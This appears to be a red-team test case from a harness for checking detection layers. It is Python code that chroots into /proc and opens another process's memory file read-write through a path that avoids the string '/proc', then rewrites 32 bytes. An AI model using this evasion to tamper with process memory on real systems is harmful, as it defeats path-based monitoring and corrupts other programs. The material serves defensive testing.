"""Round 7: chroot("/proc"), then open("/PID/mem") -- an absolute path with no /proc in it.

Round 3 tried chdir("/proc") + a relative path; here the process's root is
procfs itself, so the absolute path it opens is ``/<pid>/mem``.  Everything the
act needs is imported before the chroot.
"""

from __future__ import annotations

import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 7
EXPECT = ("L5",)


def run(args: dict[str, Any]) -> None:
    pid, addr = int(args["pid"]), int(args["addr"])
    os.chroot("/proc")  # this process only; it exits after the act
    os.chdir("/")
    t = rt.now()
    n = rt.rewrite_mem(os.open(f"/{pid}/mem", os.O_RDWR), addr)
    rt.report(t, n == 32, f"chroot /proc, open /{pid}/mem: {n} bytes read and written back at {addr:#x}")


if __name__ == "__main__":
    rt.main(run, globals())
